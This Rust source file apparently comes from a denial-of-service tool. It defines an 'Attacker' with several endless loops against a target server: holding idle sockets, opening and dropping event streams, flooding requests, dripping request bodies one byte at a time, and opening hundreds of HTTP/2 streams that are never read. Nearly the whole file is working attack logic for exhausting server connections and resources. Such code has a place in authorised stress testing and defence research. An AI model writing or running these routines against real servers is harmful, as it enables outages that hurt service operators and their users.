//! The ways of an attacker, one function each. Each goes on until its task is ended.

use std::rc::Rc;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

use crate::attack::door::{Door, ask, finish, head};
use crate::attack::pace::Pace;
use crate::attack::tally::Score;
use crate::link::http2::Http2;
use crate::link::pipe::Pipe;

/// The time for which an event stream stays.
const STAY: Duration = Duration::from_millis(50);
/// Requests on one connection.
const REQUESTS_EACH: usize = 50;
/// The time between two bytes of a body.
const BYTE_EVERY: Duration = Duration::from_millis(100);
/// Streams of one HTTP/2 connection.
const STREAMS_EACH: usize = 500;
/// The time between two looks whether an HTTP/2 connection is over, and how long the look waits for its answer.
const LOOK_EVERY: Duration = Duration::from_millis(100);

/// One task of an attack.
#[derive(Debug, Clone)]
pub(super) struct Attacker {
    pub(super) door: Door,
    pub(super) pace: Pace,
    pub(super) score: Score,
}

impl Attacker {
    /// Holds a socket and sends nothing.
    pub(super) async fn hold_socket(self) {
        let Self { door, pace, score } = self;
        loop {
            pace.turn().await;
            score.attempt();
            let Some(stream) = door.knock(&score).await else { continue };
            let _open = score.open();
            ended(&score, &mut Pipe::Plain(stream)).await;
        }
    }

    /// Opens an event stream and drops it.
    pub(super) async fn drop_streams(self, request: Rc<Vec<u8>>) {
        let Self { door, pace, score } = self;
        loop {
            pace.turn().await;
            score.attempt();
            let Some(mut pipe) = door.enter(&score).await else { continue };
            let Some((head, _)) = ask(&mut pipe, &request).await else {
                score.closed();
                continue;
            };
            score.answered(head.status);
            if head.status == 200 {
                let _open = score.open();
                sleep(STAY).await;
            }
        }
    }

    /// Sends these requests in turn.
    pub(super) async fn flood(self, requests: Rc<Vec<Vec<u8>>>) {
        let Self { door, pace, score } = self;
        let mut turns = requests.iter().cycle();
        loop {
            pace.turn().await;
            let Some(mut pipe) = door.enter(&score).await else { continue };
            let _open = score.open();
            for request in turns.by_ref().take(REQUESTS_EACH) {
                pace.turn().await;
                score.attempt();
                let Some(answer) = ask(&mut pipe, request).await else {
                    score.closed();
                    break;
                };
                score.answered(answer.0.status);
                if !finish(&mut pipe, answer).await {
                    break;
                }
            }
        }
    }

    /// Sends the request up to its body, and then a byte now and then.
    pub(super) async fn drip(self, request: Rc<Vec<u8>>) {
        let Self { door, pace, score } = self;
        let begin = request.windows(4).position(|window| window == b"\r\n\r\n").map_or(0, |at| at + 4);
        let (head, body) = request.split_at(begin);
        loop {
            pace.turn().await;
            score.attempt();
            let Some(mut pipe) = door.enter(&score).await else { continue };
            let _open = score.open();
            let mut unsent = head;
            for byte in body.chunks(1) {
                if pipe.write_all(unsent).await.is_err() || pipe.flush().await.is_err() {
                    score.closed();
                    break;
                }
                if timeout(BYTE_EVERY, ended(&score, &mut pipe)).await.is_ok() {
                    break;
                }
                unsent = byte;
            }
        }
    }

    /// Opens many streams on a connection, and reads none of them.
    pub(super) async fn multiplex(self, request: Rc<Vec<u8>>) {
        let Self { door, pace, score } = self;
        loop {
            pace.turn().await;
            let Some(pipe) = door.enter(&score).await else { continue };
            let Ok(http2) = Http2::begin(pipe, None, 1).await else {
                score.closed();
                continue;
            };
            let mut streams = JoinSet::new();
            for _ in 0..STREAMS_EACH {
                pace.turn().await;
                if is_over(&http2).await {
                    break;
                }
                score.attempt();
                streams.spawn_local(hold_stream(http2.clone(), Rc::clone(&request), score.clone()));
            }
            while !is_over(&http2).await {
                sleep(LOOK_EVERY).await;
            }
        }
    }
}

async fn hold_stream(http2: Http2, request: Rc<Vec<u8>>, score: Score) {
    let Ok((head, mut incoming)) = http2.request(&request).await else { return score.closed() };
    score.answered(head.status);
    if head.status == 200 {
        let _open = score.open();
        incoming.reset().await;
    }
}

/// A connection that is only slow is not over.
async fn is_over(http2: &Http2) -> bool {
    timeout(LOOK_EVERY, http2.is_over()).await.unwrap_or(false)
}

/// Until the target has answered or closed.
async fn ended(score: &Score, pipe: &mut Pipe) {
    match head(pipe).await {
        Some((head, _)) => score.answered(head.status),
        None => score.closed(),
    }
}
